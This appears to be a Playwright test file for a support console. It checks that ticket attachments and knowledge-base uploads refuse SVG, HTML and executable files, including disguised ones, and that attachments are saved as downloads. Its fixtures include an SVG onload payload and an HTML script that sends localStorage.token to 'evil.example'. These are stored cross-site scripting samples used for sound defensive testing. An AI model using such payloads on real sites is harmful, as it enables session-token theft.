import type { Page } from '@playwright/test';
import { mkdirSync, truncateSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { expect, test } from './fixtures';
import { signInAs } from './session';

// Files one user uploads are opened by others (a company's ticket attachments by the super
// administrator): what a browser would run as a page is refused by content, name or type, and
// attachments are saved, never shown on the console's origin.
const TICKET = '6650a1f2c3d4e5f6abab0001';
const AGENT = '6650a1f2c3d4e5f6bbbb0001';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>';
const HTML = '<!doctype html><script>fetch("//evil.example/?" + localStorage.token)</script>';

/** Every request the page sends from now on whose path ends with `pathEnd`. */
function sent(page: Page, method: string, pathEnd: string): string[] {
  const urls: string[] = [];
  page.on('request', (request) => {
    if (request.method() === method && new URL(request.url()).pathname.endsWith(pathEnd)) {
      urls.push(request.url());
    }
  });
  return urls;
}

async function openTicket(page: Page, who: 'user' | 'superAdmin' = 'user') {
  await signInAs(page, who, { tourSeen: 'true' });
  await page.goto(`/company-settings?tab=tickets&ticket=${TICKET}`);
  await expect(page.getByRole('heading', { level: 2, name: /^TCK-1042 · / })).toBeVisible();
}

test.describe('ticket attachments', () => {
  test('SVG and HTML are refused whatever they are called or typed', async ({ page }) => {
    const uploads = sent(page, 'POST', `/tickets/${TICKET}/attachments`);
    await openTicket(page);
    const input = page.locator('input[type="file"]');
    const alert = page.getByRole('alert');
    for (const [file, message] of [
      [
        { name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(SVG) },
        'logo.svg was not added: web pages, SVG images and scripts cannot be attached.',
      ],
      [
        { name: 'screenshot.png', mimeType: 'image/png', buffer: Buffer.from(SVG) },
        'screenshot.png was not added: web pages, SVG images and scripts cannot be attached.',
      ],
      [
        { name: 'x.txt', mimeType: 'text/html', buffer: Buffer.from('hello') },
        'x.txt was not added: web pages, SVG images and scripts cannot be attached.',
      ],
      [
        { name: 'calls.csv', mimeType: 'text/csv', buffer: Buffer.from(HTML) },
        'calls.csv was not added: web pages, SVG images and scripts cannot be attached.',
      ],
      [
        { name: 'setup.png', mimeType: 'image/png', buffer: Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0]) },
        'setup.png is not a file type that can be attached.',
      ],
    ] as const) {
      await input.setInputFiles(file);
      await expect(alert).toHaveText(message);
    }
    // The file picker no longer offers every image type.
    await expect(input).not.toHaveAttribute('accept', /image\/\*/);
    // A real image still goes.
    const uploaded = page.waitForRequest(
      (request) => request.method() === 'POST' && request.url().endsWith(`/tickets/${TICKET}/attachments`),
    );
    await input.setInputFiles({
      name: 'retry-settings.png',
      mimeType: 'image/png',
      buffer: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
    });
    await uploaded;
    await expect(page.getByRole('list', { name: 'Files to send' })).toContainText('retry-settings.png');
    expect(uploads).toHaveLength(1);
  });

  test('an attachment is saved under its name, not opened in a tab of the console', async ({ page }) => {
    const opened: string[] = [];
    page.context().on('page', (other) => opened.push(other.url()));
    const asked: { authorization: string | undefined }[] = [];
    // Served as a page on purpose (a server that gets it wrong): the console must still save it.
    await page.route('**/api/uploads/tickets/**', async (route) => {
      asked.push({ authorization: route.request().headers()['authorization'] });
      await route.fulfill({ status: 200, contentType: 'text/html', body: HTML });
    });
    await openTicket(page, 'superAdmin');
    const link = page.getByRole('link', { name: 'recall-retry-settings.png' });
    await expect(link).not.toHaveAttribute('target', '_blank');
    await expect(link).toHaveAttribute('download', 'recall-retry-settings.png');
    const address = page.url();

    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    expect(download.suggestedFilename()).toBe('recall-retry-settings.png');
    expect(await download.failure()).toBeNull();
    expect(page.url()).toBe(address);
    expect(opened).toEqual([]);
    expect(asked).toHaveLength(1);
    expect(asked[0]?.authorization).toMatch(/^Bearer /);
  });
});

test.describe('knowledge files', () => {
  const dialog = (page: Page) => page.getByRole('dialog', { name: 'Upload Knowledge Base File' });
  const fileInput = (page: Page) => dialog(page).getByLabel('Click or drag file to this area to upload');
  const uploadButton = (page: Page) => dialog(page).getByRole('button', { name: 'Upload', exact: true });

  test('SVG, HTML and files that are not documents, audio or video are refused', async ({
    page,
  }, testInfo) => {
    // The one over 25 MB is a file on disk, whose path the browser reads itself: sent through the
    // browser protocol as bytes it took about 10 s on a busy machine.
    const large = testInfo.outputPath('tour.mp4');
    mkdirSync(dirname(large), { recursive: true });
    writeFileSync(large, '');
    truncateSync(large, 25 * 1024 * 1024 + 1);
    const uploads = sent(page, 'POST', '/knowledge');
    await signInAs(page, 'user', { tourSeen: 'true' });
    await page.goto(`/agent/prompt_editor?agentId=${AGENT}`);
    await page.getByTestId('knowledge-card').getByRole('button', { name: '+Add' }).click();
    await expect(dialog(page)).toBeVisible();
    const alert = dialog(page).getByRole('alert');
    for (const [file, message] of [
      [
        { name: 'diagram.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(SVG) },
        'diagram.svg was refused: web pages, SVG images and scripts cannot be uploaded.',
      ],
      [
        { name: 'faq.pdf', mimeType: 'application/pdf', buffer: Buffer.from(HTML) },
        'faq.pdf was refused: web pages, SVG images and scripts cannot be uploaded.',
      ],
      [
        { name: 'hours.txt', mimeType: 'text/html', buffer: Buffer.from('We open at 8.') },
        'hours.txt was refused: web pages, SVG images and scripts cannot be uploaded.',
      ],
      [
        { name: 'setup.exe', mimeType: 'application/x-msdownload', buffer: Buffer.from([0x4d, 0x5a, 0, 0]) },
        'setup.exe is not a supported file: choose a document, an audio or a video file.',
      ],
      [large, 'tour.mp4 is larger than 25 MB.'],
    ] as const) {
      await fileInput(page).setInputFiles(file);
      await expect(alert).toHaveText(message);
      await expect(dialog(page).getByRole('group', { name: 'Chosen file' })).toHaveCount(0);
      await expect(uploadButton(page)).toBeDisabled();
    }
    // A text document is taken, and the refusal goes.
    await fileInput(page).setInputFiles({
      name: 'Hours-and-locations.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('We open at 8.\n'),
    });
    await expect(dialog(page).getByRole('group', { name: 'Chosen file' })).toHaveText(
      'Hours-and-locations.txt',
    );
    await expect(alert).toHaveCount(0);
    await expect(uploadButton(page)).toBeEnabled();
    expect(uploads).toEqual([]);
  });
});
